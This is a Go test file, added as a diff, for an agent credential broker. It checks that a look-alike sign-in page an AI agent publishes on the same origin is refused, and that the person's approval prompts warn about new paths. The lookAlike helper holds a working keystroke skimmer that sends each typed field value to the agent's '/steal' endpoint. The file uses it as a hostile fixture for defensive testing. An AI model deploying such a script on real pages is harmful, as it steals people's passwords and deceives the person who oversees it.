@@ -1,0 +1,243 @@
+//go:build linux
+
+package tests
+
+// Issue 27: a page the agent wrote, on the credential's origin. A staging site that serves
+// user content from its own origin lets the agent publish a look-alike sign-in form whose
+// script reads the field as it is typed. A credential learns where it signed in (or the person
+// sets it at enrolment): a form anywhere else on the origin is LOGIN_PATH_CHANGED before
+// anyone is asked, unless the agent asks for the person's decision, whose prompt then says in
+// its first line that this is not where they signed in before. A loopback site served by a
+// process the agent started says so in the prompt's first line.
+
+import (
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/headless-dev/headless/internal/presence/presencetest"
+)
+
+// agentSink is the agent's own server: it logs every request it gets.
+type agentSink struct {
+	*httptest.Server
+	mu  sync.Mutex
+	log []string
+}
+
+func newAgentSink(t testing.TB) *agentSink {
+	a := &agentSink{}
+	a.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		a.mu.Lock()
+		a.log = append(a.log, r.URL.String())
+		a.mu.Unlock()
+		w.WriteHeader(http.StatusNoContent)
+	}))
+	t.Cleanup(a.Close)
+	return a
+}
+
+func (a *agentSink) got() []string {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	return append([]string(nil), a.log...)
+}
+
+// lookAlike is the agent's page on the site's origin: the site's own form (posting to the
+// site's /login), and a script that sends every keystroke's field value to the agent.
+func lookAlike(sink string) string {
+	return lsLoginForm("/login", "") + `<script>
+document.addEventListener("input", function (e) {
+  new Image().src = "` + sink + `/steal?f=" + encodeURIComponent(e.target.name) + "&v=" + encodeURIComponent(e.target.value);
+}, true);
+</script>`
+}
+
+func TestLoginPaths(t *testing.T) {
+	e := newEnv(t, envOptions{})
+	site := newEchoSite(t)
+	sink := newAgentSink(t)
+	const account = "alice@example.test"
+	pw := newCanary()
+	site.mu.Lock()
+	site.pw[account] = pw
+	site.mu.Unlock()
+	// The agent publishes its page on the site (user content served from the origin).
+	site.Config.Handler.(*http.ServeMux).HandleFunc("GET /u/agent/signin", func(w http.ResponseWriter, r *http.Request) {
+		lsPage(w, "Sign in", lookAlike(sink.URL))
+	})
+	approve, approveLog := presencetest.FakePinentry(t, "approve")
+	lsPresence(e, approve, 5)
+	lsEnroll(t, e, site.URL, "main", account, pw)
+	e.start(t)
+	prompts := func() []string { return presencetest.Prompts(t, approveLog) }
+	paths := func(t *testing.T, alias string) []string {
+		t.Helper()
+		var l struct {
+			Credentials []struct {
+				Alias      string   `json:"alias"`
+				LoginPaths []string `json:"login_paths"`
+			} `json:"credentials"`
+		}
+		e.ok(t, &l, "credentials", "list", "--origin", site.URL)
+		for _, c := range l.Credentials {
+			if c.Alias == alias {
+				return c.LoginPaths
+			}
+		}
+		t.Fatalf("alias %s not listed: %+v", alias, l)
+		return nil
+	}
+
+	t.Run("first sign-in is learned", func(t *testing.T) {
+		if p := paths(t, "main"); len(p) != 0 {
+			t.Fatalf("a new credential knows paths %v", p)
+		}
+		lsVisit(t, e, site.URL+"/login")
+		lsLoginOK(t, e, "authenticated", "--alias", "main")
+		p := prompts()
+		last := p[len(p)-1]
+		if !strings.Contains(last, `First sign-in with this credential: page "/login" will be remembered`) {
+			t.Errorf("the first sign-in's prompt does not say its page is remembered: %q", last)
+		}
+		// The site is served by this test process, which started the agent's CLI: the agent's.
+		if !strings.HasPrefix(last, "THE AGENT STARTED THIS SITE: "+site.URL) {
+			t.Errorf("the prompt for a loopback site the agent's chain serves does not say so first: %q", last)
+		}
+		if got := paths(t, "main"); len(got) != 1 || got[0] != "/login" {
+			t.Fatalf("after an authenticated sign-in at /login the credential knows %v", got)
+		}
+	})
+
+	t.Run("look-alike at another path", func(t *testing.T) {
+		n, posts := len(prompts()), site.posts
+		lsVisit(t, e, site.URL+"/u/agent/signin")
+		r := lsLogin(e, "--alias", "main")
+		if r.code == 0 || errCode(t, r) != "LOGIN_PATH_CHANGED" || !strings.Contains(r.stdout, `\"/u/agent/signin\"`) || !strings.Contains(r.stdout, `(\"/login\")`) {
+			t.Fatalf("auth login on the agent's look-alike form: %+v", r)
+		}
+		if len(prompts()) != n {
+			t.Errorf("the person was asked about a form at another path: %q", prompts()[n:])
+		}
+		time.Sleep(300 * time.Millisecond)
+		if got := sink.got(); len(got) != 0 || site.posts != posts {
+			t.Errorf("the look-alike got something: agent log %v, site posts %d→%d", got, posts, site.posts)
+		}
+	})
+
+	t.Run("paths set at enrolment", func(t *testing.T) {
+		r := e.runTTY([]step{{"Password for", pw + "\n"}, {"Repeat the password", pw + "\n"}},
+			"headless", "credentials", "add", "--origin", site.URL, "--account", account, "--alias", "second", "--login-path", "/signin", "--login-path", "/sso/login", "--json")
+		if r.code != 0 {
+			t.Fatalf("credentials add --login-path: %+v", r)
+		}
+		if got := paths(t, "second"); strings.Join(got, " ") != "/signin /sso/login" {
+			t.Fatalf("the paths set at enrolment are %v", got)
+		}
+		n := len(prompts())
+		lsVisit(t, e, site.URL+"/login")
+		lsLoginFails(t, e, []string{"LOGIN_PATH_CHANGED"}, "--alias", "second")
+		if len(prompts()) != n {
+			t.Error("the person was asked about a form at a path not set at enrolment")
+		}
+		if r := e.run("", "headless", "credentials", "add", "--origin", site.URL, "--account", account, "--alias", "third", "--login-path", "login", "--json"); r.code == 0 || !strings.Contains(r.stdout+r.stderr, "absolute path") {
+			t.Errorf("--login-path login (not absolute): %+v", r)
+		}
+	})
+
+	t.Run("the person decides on a new path", func(t *testing.T) {
+		// The person refuses this time: a brokerd with the "deny" pinentry (the learned path
+		// is brokerd's own state and survives the restart).
+		deny, denyLog := presencetest.FakePinentry(t, "deny")
+		e.ok(t, nil, "stop")
+		e.stopBroker()
+		lsPresence(e, deny, 5)
+		e.start(t)
+		lsVisit(t, e, site.URL+"/u/agent/signin")
+		lsLoginFails(t, e, []string{"LOGIN_PATH_CHANGED"}, "--alias", "main")
+		lsLoginFails(t, e, []string{"PRESENCE_DENIED"}, "--alias", "main", "--new-login-path")
+		p := presencetest.Prompts(t, denyLog)
+		if len(p) != 1 || !strings.Contains(p[0], `NOT WHERE YOU SIGNED IN BEFORE: this sign-in form is at "/u/agent/signin"; alias "main" signed in at "/login" before.`) {
+			t.Fatalf("the prompt for a new path: %q", p)
+		}
+		if got := sink.got(); len(got) != 0 {
+			t.Errorf("the look-alike got something: %v", got)
+		}
+		if got := paths(t, "main"); len(got) != 1 || got[0] != "/login" {
+			t.Errorf("a refused new path was learned: %v", got)
+		}
+	})
+
+	t.Run("loopback site not started by the agent", func(t *testing.T) {
+		// A server started apart from the agent (setsid -f: its parent is init by the time it
+		// serves): no such first line.
+		dir := t.TempDir()
+		portFile := filepath.Join(dir, "port")
+		cmd := exec.Command("setsid", "-f", os.Args[0])
+		cmd.Env = append(os.Environ(), helperEnv+"=loginserve", "LOGINSERVE_FILE="+portFile)
+		// Its output goes to /dev/null: a pipe would be held open by the detached child.
+		if err := cmd.Run(); err != nil {
+			t.Fatalf("setsid: %v", err)
+		}
+		var port, pid int
+		if !pollUntil(10*time.Second, func() bool {
+			b, err := os.ReadFile(portFile)
+			if err != nil {
+				return false
+			}
+			_, err = fmt.Sscanf(string(b), "%d %d", &port, &pid)
+			return err == nil
+		}) {
+			t.Fatal("the detached server did not start")
+		}
+		t.Cleanup(func() { syscall.Kill(pid, syscall.SIGKILL) })
+		origin := "http://127.0.0.1:" + strconv.Itoa(port)
+		approve2, approveLog2 := presencetest.FakePinentry(t, "approve")
+		e.ok(t, nil, "stop")
+		e.stopBroker()
+		lsPresence(e, approve2, 5)
+		lsEnroll(t, e, origin, "apart", "carol@example.test", pw)
+		e.start(t)
+		lsVisit(t, e, origin+"/login")
+		lsLoginOK(t, e, "authenticated", "--alias", "apart")
+		p := presencetest.Prompts(t, approveLog2)
+		if len(p) != 1 || strings.Contains(p[0], "THE AGENT STARTED THIS SITE") || !strings.Contains(p[0], "On this machine:") {
+			t.Errorf("the prompt for a site the agent did not start: %q", p)
+		}
+	})
+
+	e.ok(t, nil, "stop")
+	needles := lsNeedles("password", pw)
+	sweep := &lsSweep{t: t, needles: needles, files: map[string]int{}, seen: map[string]bool{}}
+	sweep.search("every CLI output", []byte(e.allOutput()))
+	sweep.search("the agent's server", []byte(strings.Join(sink.got(), "\n")))
+}
+
+// loginServe (helper "loginserve") is a sign-in site apart from the test: it listens on a
+// loopback port, writes "PORT PID" to $LOGINSERVE_FILE, and serves /login (any POST signs in
+// and goes to /home) until killed.
+func loginServe() int {
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		return 1
+	}
+	mux := http.NewServeMux()
+	mux.HandleFunc("GET /login", func(w http.ResponseWriter, r *http.Request) { lsPage(w, "Sign in", lsLoginForm("/login", "")) })
+	mux.HandleFunc("POST /login", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/home", http.StatusSeeOther) })
+	mux.HandleFunc("GET /home", func(w http.ResponseWriter, r *http.Request) { lsPage(w, "Home", "<h1>Welcome</h1>") })
+	mux.HandleFunc("POST /typed", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusNoContent) })
+	mux.HandleFunc("GET /app.css", func(w http.ResponseWriter, r *http.Request) {})
+	os.WriteFile(os.Getenv("LOGINSERVE_FILE"), fmt.Appendf(nil, "%d %d", l.Addr().(*net.TCPAddr).Port, os.Getpid()), 0o600)
+	http.Serve(l, mux)
+	return 0
+}
